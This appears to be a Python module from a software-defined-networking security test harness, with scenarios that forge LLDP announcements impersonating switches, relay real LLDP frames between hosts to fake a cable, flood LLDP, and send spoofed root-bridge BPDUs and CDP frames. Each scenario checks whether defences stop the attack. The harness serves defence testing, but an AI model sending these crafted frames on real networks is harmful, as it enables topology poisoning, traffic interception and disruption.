"""LLDP: what hosts say about links is no link, and hosts are told nothing about links."""

from __future__ import annotations

import struct

from scapy.packet import Raw

from attack.evidence import everything
from attack.frames import BROADCAST, ether
from attack.scenario import ATTACKS, Group
from attack.trial import Trial

group = Group("lldp", ATTACKS)
_ETHERTYPE = 0x88CC
_GROUPS = ("01:80:c2:00:00:0e", "01:80:c2:00:00:03", "01:80:c2:00:00:00")
_FLOOD = 500


def _tlv(kind: int, value: bytes) -> bytes:
    """A type-length-value of IEEE 802.1AB §8.4."""
    return struct.pack("!H", kind << 9 | len(value)) + value


def _announcement(dpid: int, port: int, token: bytes) -> bytes:
    """As controllers write it: the switch in the chassis id, the port's number; the mark as system name."""
    chassis = _tlv(1, b"\x07dpid:" + f"{dpid:016x}".encode())
    return (
        chassis
        + _tlv(2, b"\x02" + struct.pack("!I", port))
        + _tlv(3, struct.pack("!H", 120))
        + _tlv(5, token)
        + b"\0\0"
    )


@group.scenario(
    "lldp-injection",
    reference="Hong et al., Poisoning Network Visibility (NDSS 2015)",
    tried="LLDP in the name of every switch, to its groups, to everybody and to a host",
    success="a host receives it, or the controller believes in a link",
    covers=("lldp-injection",),
    judge=everything,
    quick=True,
)
def injection(trial: Trial) -> None:
    """TopoGuard's first attack."""
    links = trial.arena.link_count()
    for attacker in trial.attackers:
        for switch in trial.arena.network.network.switches.values():
            for dst in (*_GROUPS[:2], BROADCAST, trial.mac(trial.cast.victim)):
                token = trial.mark(attacker, f"{switch.name} to {dst} by {attacker}")
                body = Raw(_announcement(switch.dpid, 1, token))
                trial.send(attacker, [ether(trial.mac(attacker), dst, type=_ETHERTYPE) / body])
    if trial.arena.protected:
        trial.arena.settle()
        grown = trial.arena.link_count() - links
        trial.note("links", f"{grown} new links" if grown else "")


@group.scenario(
    "lldp-relay",
    reference="Hong et al. (NDSS 2015); Marin et al., Topology Attacks (2019)",
    tried="what one host hears of LLDP, and what passes between switches, put on another host's cable",
    success="a host hears LLDP, or receives what another has relayed",
    covers=("lldp-relay",),
    judge=everything,
)
def relay(trial: Trial) -> None:
    """Two hosts pretend to be a cable. The fabric's own frames are taken from the cables between switches."""
    arena = trial.arena
    heard = [frame for name in trial.attackers for frame in arena.tap(name).peek() if is_lldp(frame)]
    if arena.protected:
        trial.note("heard by hosts", f"{len(heard)} frames of LLDP" if heard else "")
    links = arena.link_count()
    real = [frame for frame in arena.fabric_frames() if is_lldp(frame)][:20]
    for attacker in trial.attackers:
        token = trial.mark(attacker, f"relayed by {attacker}")
        made = [
            bytes(ether(trial.mac(attacker), dst, type=_ETHERTYPE)) + _announcement(1, 2, token) for dst in _GROUPS[:2]
        ]
        trial.send(attacker, [*real, *made])
    arena.settle()
    if arena.protected:
        grown = arena.link_count() - links
        trial.note("links", f"{grown} new links" if grown else "")


def is_lldp(frame: bytes) -> bool:
    """Whether a frame is LLDP, tagged or not."""
    kind = frame[16:18] if frame[12:14] == b"\x81\x00" else frame[12:14]
    return kind == b"\x88\xcc"


@group.scenario(
    "lldp-flood",
    reference="Dhawan et al., SPHINX (NDSS 2015)",
    tried=f"{_FLOOD} frames of LLDP from each attacker, at once",
    success="a host receives one; the controller or the honest pair suffer",
    covers=("lldp-flood",),
)
def flood(trial: Trial) -> None:
    """More than any switch would send."""
    for attacker in trial.attackers:
        token = trial.mark(attacker, f"by {attacker}")
        frames = [
            bytes(ether(trial.mac(attacker), _GROUPS[0], type=_ETHERTYPE)) + _announcement(number, number, token)
            for number in range(_FLOOD)
        ]
        trial.send(attacker, frames)


@group.scenario(
    "spanning-tree",
    reference="IEEE 802.1D; yersinia",
    tried="BPDUs of a root bridge with the best priority, topology changes, Cisco's CDP, VTP and DTP",
    success="a host receives them",
    covers=("lldp-injection", "llc"),
)
def spanning_tree(trial: Trial) -> None:
    """Whoever becomes the root has all traffic; to other addresses than the reserved one as well."""
    bpdu = bytes.fromhex("424203" + "0000" + "02" + "02" + "7c") + bytes(2) + b"\x02" + bytes(27)
    cisco = bytes.fromhex("aaaa03" + "00000c" + "2000") + bytes(20)
    for attacker in trial.attackers:
        for label, body, dst in (
            ("BPDU to all", bpdu, BROADCAST),
            ("BPDU to a host", bpdu, trial.mac(trial.cast.victim)),
            ("CDP", cisco, "01:00:0c:cc:cc:cc"),
        ):
            token = trial.mark(attacker, f"{label} by {attacker}")
            head = bytes.fromhex((dst + trial.mac(attacker)).replace(":", "")) + struct.pack(
                "!H", len(body) + len(token)
            )
            trial.send(attacker, [head + body + token])
